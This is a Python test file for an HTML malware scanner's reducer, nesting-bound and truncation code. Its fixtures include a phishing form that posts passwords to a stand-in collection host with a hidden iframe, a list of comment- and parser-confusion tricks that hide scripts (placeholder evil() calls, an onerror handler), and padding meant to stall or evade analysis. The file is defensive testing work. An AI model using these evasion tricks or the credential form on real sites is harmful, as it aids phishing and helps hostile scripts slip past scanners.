"""Tokenizing like a browser: the nesting bound, the comment/whitespace reducer, head+tail cuts.

The reducer must never remove something a browser runs or renders; the nesting bound must make
Lexbor's work linear while keeping every form, input, frame and script. Lexbor itself is the
reference: the scripts and forms it finds in the reduced or bounded page are those it finds in
the original.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from malwaresnipper.engine.features.html import parse_html
from malwaresnipper.engine.features.markup import (
    MAX_NESTING,
    HtmlReducer,
    bound_nesting,
)
from malwaresnipper.engine.fit import fit_html, fit_script, head_and_tail
from selectolax.lexbor import LexborHTMLParser

PHISH_FORM = ('<form action="http://collect.example/p.php" method="post"><input name="email">'
              '<input type="password" name="pw"><iframe src="http://x.example/f" width=0 height=0></iframe></form>')


def scripts_of(html: str) -> list[str]:
    """The script texts Lexbor finds, whitespace runs normalised (the reducer collapses them)."""
    return [" ".join(n.text(deep=True).split()) for n in LexborHTMLParser(html, scripting=True).css("script")]


def reduce(html: str, chunk: int | None = None) -> str:
    reducer = HtmlReducer()
    if chunk is None:
        return reducer.feed(html) + reducer.close()
    out = [reducer.feed(html[i : i + chunk]) for i in range(0, len(html), chunk)]
    return "".join(out) + reducer.close()


# -- reducer ----------------------------------------------------------------------------------------

#: Markup where something that looks like a comment is not one (or the reverse), as a browser reads it.
TRICKY = [
    '<div title="<!--"><script>evil1()</script><p title="-->">x</p></div>',
    "<script>var s = '<!--'; evil2(); var t = '-->';</script>",
    "<script><!--\nevil3()\n//--></script>",
    "<script><!--<script></script>evil4()</script>-->evil4b()</script>",
    "<!-- a --!> <script>evil5()</script> -->",
    "<!--> <script>evil6()</script> -->",
    "<!---> <script>evil7()</script> -->",
    "<textarea><!-- </textarea><script>evil8()</script> --></textarea>",
    "<title><!-- </title><script>evil9()</script> --></title>",
    "<style><!-- </style><script>evil10()</script> --></style>",
    "<noscript><!-- </noscript><script>evil11()</script> --></noscript>",
    "<xmp><!-- </xmp><script>evil12()</script> --></xmp>",
    "<iframe><!-- </iframe><script>evil13()</script> --></iframe>",
    "<a href='x'title=\"-->\"><!-- <script>not_run()</script> --><script>evil14()</script></a>",
    "<div a=\"x\" b='y' c=z d=\"<!--\" e>ok</div><script>evil15()</script><!-- -->",
    "<svg><style></svg><script>x=1</style>/;<!--\nevil16()\n//--></script>",
    "<svg><![CDATA[ > <!-- ]]> <img src=x onerror=evil17()> <!-- --> ]]></svg>",
    "<math><mi><style><!-- </style><script>evil18()</script> --></style></mi></math>",
    "<SCRIPT>evil19()</SCRIPT ><!-- <script>no()</script> -->",
    "<script>a='</scr'+'ipt>';evil20()</script>",
    "<!-- <script>hidden()</script> --><script>evil21()</script>",
    "<? php echo '<!--' ?><script>evil22()</script><!-- -->",
    "</ x><script>evil23()</script>",
    "<![CDATA[ > <script>evil24()</script> ]]>",
    "<div>unterminated <!-- comment until the end <script>not_run()</script>",
]


@pytest.mark.parametrize("html", TRICKY)
@pytest.mark.parametrize("chunk", [None, 1, 7, 64], ids=["whole", "c1", "c7", "c64"])
def test_reducing_keeps_every_script_a_browser_would_run(html: str, chunk: int | None) -> None:
    page = "<html><body>" + html + "</body></html>"
    assert scripts_of(reduce(page, chunk)) == scripts_of(page)


def test_reducing_removes_comment_padding_and_whitespace_runs() -> None:
    page = "<html><body><!--" + "A" * 100_000 + "-->\n\n\n    <p>hello     world</p>" + PHISH_FORM + "</body></html>"
    out = reduce(page)
    assert len(out) < 500 and "AAAA" not in out and "hello world" in out
    assert LexborHTMLParser(out).css_first("input[type=password]") is not None


def test_reducing_keeps_a_saved_from_mark() -> None:
    page = "<!-- saved from url=(0023)https://bank.example/ --><html><body><!-- junk --></body></html>"
    out = reduce(page)
    assert "saved from url" in out and "junk" not in out


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from([
    "<!--", "-->", "--!>", "<script>", "</script>", "<script ", "<style>", "</style>", "'", '"', "<div a=", ">",
    "<svg>", "</svg>", "<![CDATA[", "]]>", "<textarea>", "</textarea>", "x", " ", "\n", "<p>", "</p>",
    "run()", "<!-->", "<? ", "</", "<noscript>", "</noscript>", "<b>", "/",
]), max_size=40), st.integers(min_value=1, max_value=9))
def test_reducing_never_changes_the_scripts_lexbor_finds(parts: list[str], chunk: int) -> None:
    page = "<html><body>" + "".join(parts) + "</body></html>"
    expected = scripts_of(page)
    assert scripts_of(reduce(page)) == expected
    assert scripts_of(reduce(page, chunk)) == expected


# -- nesting bound --------------------------------------------------------------------------------

def _deep(kind: str, n: int) -> str:
    pattern = {
        "div": lambda i: "<div>",
        "b-attr": lambda i: f"<b id={i}>",
        "li": lambda i: "<ul><li>",
        "div-b": lambda i: f"<div><b id={i}></div>x",
        "p-b": lambda i: f"<p><b id={i}></p>x",
        "dl-dd": lambda i: "<dl><dd>",
        "h1-div": lambda i: "<h1><div>",
        "a-div": lambda i: "<a href=x><div>",
        "font": lambda i: f"<font color={i}>",
        "obj-div": lambda i: "<div><object></div>",
    }[kind]
    if kind == "svg":
        return "<svg>" + "<g>" * n + "</x>" * n
    return "".join(pattern(i) for i in range(n))


@pytest.mark.parametrize("kind", ["div", "b-attr", "li", "div-b", "p-b", "dl-dd", "h1-div", "a-div", "font", "obj-div"])
def test_deep_nesting_is_bounded_and_keeps_the_form(kind: str) -> None:
    html = "<html><body>" + _deep(kind, 40_000) + PHISH_FORM + "</body></html>"
    started = time.process_time()
    page = parse_html(html, "https://victim.example/")
    elapsed = time.process_time() - started
    assert elapsed < 3.0, f"{kind}: {elapsed:.2f} s"  # unbounded, these take 10 s to minutes
    assert page.error is None and page.password_inputs == 1
    assert [f.has_password for f in page.dom.forms] == [True]
    assert page.dom.forms[0].action == "http://collect.example/p.php"
    assert [i.hidden for i in page.dom.iframes] == [True]
    assert page.reductions and str(MAX_NESTING) in page.reductions[0]


def test_bounded_html_parses_no_deeper_than_the_limit() -> None:
    bounded = bound_nesting("<html><body>" + "<div>" * 5000 + "<span>x</span>" + "</div>" * 5000)
    depth, node = 0, LexborHTMLParser(bounded.html).css_first("span")
    while node is not None:
        depth, node = depth + 1, node.parent
    assert bounded.dropped > 0 and depth <= MAX_NESTING + 4


def test_ordinary_pages_are_not_touched() -> None:
    rows = "".join(f"<tr><td>{i}<td><a href='/p/{i}'>item</a>" for i in range(2000))  # unclosed cells
    lists = "".join(f"<li><p>point {i}" for i in range(2000))  # unclosed items and paragraphs
    svg = "<svg>" + "<path d='M0 0'/>" * 2000 + "</svg>"
    html = f"<html><body><table>{rows}</table><ul>{lists}</ul>{svg}<div><font><b>x</div></body></html>"
    bounded = bound_nesting(html)
    assert bounded.dropped == 0 and bounded.html is html


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from([
    "<div>", "</div>", "<p>", "</p>", "<b>", "</b>", "<b id=1>", "<i>", "</i>", "<li>", "<ul>", "</ul>",
    "<table>", "<td>", "<tr>", "</table>", "<object>", "</object>", "<span>", "</span>", "<svg>", "</svg>",
    "<g>", "<style>", "</style>", "<select>", "<option>", "<a>", "</a>", "<template>", "</template>",
    "<h1>", "</h1>", "<dd>", "<font color=1>", "<math>", "<mi>", "<foreignObject>", "x",
]), min_size=1, max_size=30), st.integers(min_value=20, max_value=200))
def test_the_nesting_estimate_never_falls_below_lexbors_tree(block: list[str], repeat: int) -> None:
    """Repeated random markup: wherever Lexbor nests deeper than the limit, the bound acts; and
    after the bound Lexbor's tree stays within reach of the limit."""
    html = "<html><body>" + "".join(block) * repeat + "<form><input type=password></form>"
    bounded = bound_nesting(html, limit=64, small_page_tags=0)
    tree = LexborHTMLParser(bounded.html)  # as parse_html runs it
    assert _max_depth(tree) <= 64 * 3, "Lexbor's tree is deeper than the bound allows"
    # HTML forms and inputs are kept up to twice the limit (deeper, they nest only through parser
    # quirks; inside SVG/MathML they are no HTML forms at all)
    original = LexborHTMLParser(html)
    if "<svg>" not in block and "<math>" not in block and _max_depth(original) <= 2 * 64:
        assert len(tree.css("input[type=password]")) == len(original.css("input[type=password]"))


def _max_depth(tree: LexborHTMLParser) -> int:
    deepest = 0
    stack = [(tree.root, 0)] if tree.root is not None else []
    while stack:
        node, depth = stack.pop()
        deepest = max(deepest, depth)
        child = node.child
        while child is not None:
            stack.append((child, depth + 1))
            child = child.next
    return deepest


# -- head and tail ---------------------------------------------------------------------------------

def test_a_page_of_comment_padding_fits_whole_after_reduction() -> None:
    page = "<html><body><!--" + "x" * 3_000_000 + "-->" + PHISH_FORM + "</body></html>"
    fitted = fit_html(page, 1_000_000)
    assert not fitted.truncations and fitted.reductions and "password" in fitted.text


def test_what_still_does_not_fit_keeps_head_and_tail_and_says_so() -> None:
    filler = "".join(f"<p>paragraph {i}</p>" for i in range(100_000))
    page = "<html><body><script>first()</script>" + filler + "<script>last()</script>" + PHISH_FORM
    fitted = fit_html(page, 200_000)
    assert len(fitted.text) <= 200_000
    assert fitted.truncations and "not analysed" in fitted.truncations[0]
    scripts = scripts_of(fitted.text)
    assert scripts[0] == "first()" and scripts[-1] == "last()"
    assert LexborHTMLParser(fitted.text).css_first("input[type=password]") is not None


def test_a_cut_inside_a_huge_inline_script_keeps_both_ends_as_script() -> None:
    page = "<html><body><script>start();" + "a+=1;\n" * 200_000 + "payload()</script></body></html>"
    text, left_out = head_and_tail(page, 100_000, html=True)
    scripts = scripts_of(text)
    assert left_out > 0 and scripts[0].startswith("start();") and scripts[-1].rstrip().endswith("payload()")


def test_scripts_lose_whitespace_first_then_the_middle() -> None:
    padded = "var a = 1;" + " " * 2_000_000 + "\n\n\n" + "evil();"
    fitted = fit_script(padded, 1_000_000, "https://a.test/x.js")
    assert fitted.text == "var a = 1;\nevil();" and not fitted.truncations and fitted.reductions
    dense = "/*" + "x" * 2_000_000 + "*/\n" + "evil();"
    fitted = fit_script(dense, 1_000_000, "https://a.test/x.js")
    assert fitted.text.endswith("evil();") and fitted.text.startswith("/*xxx") and len(fitted.text) <= 1_000_000
    assert fitted.truncations and "https://a.test/x.js" in fitted.truncations[0]
